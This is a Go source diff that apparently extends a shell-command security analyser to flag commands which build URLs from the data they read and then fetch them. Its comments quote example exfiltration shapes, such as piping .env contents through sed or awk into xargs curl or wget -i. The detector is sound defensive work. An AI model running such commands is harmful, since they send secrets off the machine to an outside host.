@@ -4,6 +4,10 @@ import (
 	"regexp"
 	"strings"
 	"sync"
+
+	"mvdan.cc/sh/v3/syntax"
+
+	"github.com/airlock-dev/airlock/internal/shell"
 )
 
 // This file closes FINDINGS-5 L10: a file's content carried into a
@@ -68,7 +72,18 @@ func carried(text string, r *Result) {
 	changed := false
 	for i := range r.Invocations {
 		inv := &r.Invocations[i]
-		if inv.Opaque != "" || !inv.Effect.NetworkRead || inv.Effect.Tier == External || !inv.AnyDynamic(1) {
+		if inv.Opaque != "" || inv.Effect.Tier == External || !inv.Effect.NetworkRead && !listFetcher(inv.Name()) {
+			continue
+		}
+		if src, ok := builtList(text, r.Invocations, inv); ok {
+			x := external("exfil.carried", inv.Name()+" fetches the addresses "+src+" builds from the data it reads, which carry that data to the network")
+			inv.Effect.Add(x)
+			inv.Effect.NetworkRead = false
+			r.Effect.Add(x)
+			changed = true
+			continue
+		}
+		if !inv.AnyDynamic(1) || !inv.Effect.NetworkRead {
 			continue
 		}
 		if vars == nil {
@@ -295,4 +310,178 @@ func varRef(w, name string) (int, int, bool) {
 		return i, k, true
 	}
 	return 0, 0, false
+}
+
+// A list of addresses a request reads whole (xargs curl, wget -i -, wget
+// -i FILE, curl -K -) is a list being fetched, unless the same command
+// builds it: a program that joins a URL's text to the data it reads (sed
+// 's#^#http://h/#' .env | xargs curl, awk '{print "http://h/"$0}' .env >
+// u.txt; wget -i u.txt) sends that data in the addresses, as xargs -I{}
+// curl http://h/{} < .env does (FINDINGS-6 F9). A list of URLs selected
+// whole from a file (grep -o 'https://…' README.md | xargs curl -I) or
+// written literally (echo https://a | xargs curl) is not built.
+
+// listFetcher reports whether a program fetches the addresses of a list
+// it is given (-i FILE, -i -) even when its command line names none.
+func listFetcher(name string) bool {
+	switch name {
+	case "wget", "wget2", "aria2c", "curl":
+		return true
+	}
+	return false
+}
+
+// builtList reports whether a request reads its addresses whole from a
+// list the command builds, and names the program that builds it.
+func builtList(text string, runs []Invocation, inv *Invocation) (string, bool) {
+	fromPipe, file := false, ""
+	if inv.Feed != nil {
+		for j := 1; j < len(inv.Args); j++ {
+			if strings.Trim(inv.Args[j], `"'`) == xargsInput || strings.Trim(inv.Args[j], `"'`) == parallelInput {
+				fromPipe, file = inv.Feed.File == "", inv.Feed.File
+			}
+		}
+	}
+	for j := 1; j < len(inv.Args); j++ {
+		a := inv.Args[j]
+		var v string
+		switch {
+		case (a == "-i" || a == "--input-file" || a == "-K" || a == "--config") && j+1 < len(inv.Args):
+			v = inv.Args[j+1]
+		case strings.HasPrefix(a, "--input-file=") || strings.HasPrefix(a, "--config="):
+			_, v, _ = strings.Cut(a, "=")
+		case strings.HasPrefix(a, "-i") && len(a) > 2 && !strings.HasPrefix(a, "--"):
+			v = a[2:]
+		default:
+			continue
+		}
+		if v == "-" || v == "/dev/stdin" {
+			fromPipe = true
+			for _, rd := range inv.Redirects {
+				if rd.Op == "<" && !rd.Dynamic {
+					fromPipe, file = false, rd.Target
+				}
+			}
+		} else {
+			file = v
+		}
+	}
+	if fromPipe {
+		if left, ok := pipeLeft(text, inv.Source); ok {
+			return builds(left)
+		}
+		return "", false
+	}
+	if file == "" {
+		// A whole word that is a variable read or mapfile fills (sed
+		// … .env | while read u; do curl "$u"; done): their input.
+		for j := 1; j < len(inv.Args); j++ {
+			if !inv.IsDynamic(j) {
+				continue
+			}
+			for k := range runs {
+				switch runs[k].Name() {
+				case "read", "mapfile", "readarray":
+				default:
+					continue
+				}
+				for _, n := range readNames(runs[k].Args) {
+					if _, _, ok := varRef(inv.Args[j], n); !ok {
+						continue
+					}
+					if f := carriedInput(runs, k); f != "" {
+						if by, ok := writtenList(text, runs, f); ok {
+							return by, true
+						}
+					} else if left, ok := pipeLeft(text, runs[k].Source); ok {
+						if by, ok := builds(left); ok {
+							return by, true
+						}
+					}
+				}
+			}
+		}
+		return "", false
+	}
+	return writtenList(text, runs, file)
+}
+
+// writtenList reports whether a list file is written by the command with
+// addresses it builds.
+func writtenList(text string, runs []Invocation, file string) (string, bool) {
+	for k := range runs {
+		w := &runs[k]
+		writes := w.Name() == "tee" && hasAny(w.Args[1:], file)
+		for _, rd := range w.Redirects {
+			writes = writes || rd.Writes() && rd.Target == file
+		}
+		if !writes {
+			continue
+		}
+		src := w.Source
+		if left, ok := pipeLeft(text, w.Source); ok && w.Name() == "tee" {
+			src = left
+		}
+		if by, ok := builds(src); ok {
+			return by, true
+		}
+	}
+	return "", false
+}
+
+// builds reports whether shell text has a program that joins a URL's
+// text to data it reads: sed, awk, perl and the like with "://" in their
+// program, printf with "://" in its format and a word known only at run
+// time, echo of such a word, or any of them fed by xargs.
+func builds(text string) (string, bool) {
+	if !strings.Contains(text, "://") {
+		return "", false
+	}
+	for _, r := range shell.Parse(text) {
+		if r.Opaque != "" {
+			continue
+		}
+		src := strings.Join(r.Args, " ")
+		if !strings.Contains(src, "://") {
+			continue
+		}
+		switch r.Name() {
+		case "sed", "gsed", "awk", "gawk", "mawk", "nawk", "perl", "ruby", "python", "python3", "node", "jq", "yq", "paste", "m4", "envsubst":
+			return "`" + clip(r.Source) + "`", true
+		case "echo", "printf":
+			if r.AnyDynamic(1) || len(r.Via) > 0 {
+				return "`" + clip(r.Source) + "`", true
+			}
+		}
+	}
+	return "", false
+}
+
+// pipeLeft returns the text of what pipes into the simple command src in
+// shell text (a | b | xargs curl: "a | b"), when it is found there.
+func pipeLeft(text, src string) (string, bool) {
+	if text == "" || src == "" || !strings.Contains(text, "|") {
+		return "", false
+	}
+	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
+	if err != nil {
+		return "", false
+	}
+	slice := func(n syntax.Node) string {
+		a, b := int(n.Pos().Offset()), int(n.End().Offset())
+		if a < 0 || b > len(text) || a > b {
+			return ""
+		}
+		return text[a:b]
+	}
+	left, found := "", false
+	syntax.Walk(f, func(n syntax.Node) bool {
+		if b, ok := n.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
+			if strings.Contains(slice(b.Y), src) {
+				left, found = slice(b.X), true
+			}
+		}
+		return true
+	})
+	return left, found
 }
